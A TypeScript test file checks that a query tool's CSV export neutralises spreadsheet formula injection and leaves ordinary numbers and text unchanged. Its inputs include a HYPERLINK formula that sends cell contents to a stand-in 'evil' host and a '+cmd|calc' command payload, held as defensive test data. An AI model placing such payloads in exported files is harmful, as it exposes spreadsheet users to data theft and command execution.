import assert from 'node:assert/strict'
import { test } from 'node:test'
import { writeAnswer } from '../../../../services/cli/lake/query-command.ts'
import type { PlainValue } from '../../../../services/lake/index.ts'

async function csvOf(
  columns: readonly string[],
  given: readonly (readonly PlainValue[])[],
): Promise<readonly string[]> {
  const lines: string[] = []
  async function* rows(): AsyncGenerator<readonly PlainValue[], void, undefined> {
    for (const row of given) yield await Promise.resolve(row)
  }
  await writeAnswer({ columns, rows: rows() }, 'csv', Infinity, (line) => {
    lines.push(line)
  })
  return lines
}

test('CSV cells that a spreadsheet would run are inert, and so are headings', async () => {
  const lines = await csvOf(
    ['=1+1', 'b'],
    [
      ['=HYPERLINK("http://evil/"&A1,"click")', '+cmd|calc'],
      ['-2+3', '@SUM(A1)'],
      ['\t=1', '\r=1'],
      ['- spoken', '=a,b'],
    ],
  )
  assert.deepEqual(lines, [
    "'=1+1,b",
    `"'=HYPERLINK(""http://evil/""&A1,""click"")",'+cmd|calc`,
    "'-2+3,'@SUM(A1)",
    `'\t=1,"'\r=1"`,
    `'- spoken,"'=a,b"`,
  ])
})

test('CSV leaves numbers and all other text as they are', async () => {
  const lines = await csvOf(
    ['a', 'b', 'c'],
    [
      [-1.5, 4990, '-9007199254740993'],
      ['2026-01-01T00:00:00.000Z', 'card-01090', null],
      ['a=b', 'a-b', '+4'],
      [1e-9, -2.5e30, 'x"y'],
    ],
  )
  assert.deepEqual(lines.slice(1), [
    '-1.5,4990,-9007199254740993',
    '2026-01-01T00:00:00.000Z,card-01090,',
    'a=b,a-b,+4',
    '1e-9,-2.5e+30,"x""y"',
  ])
})
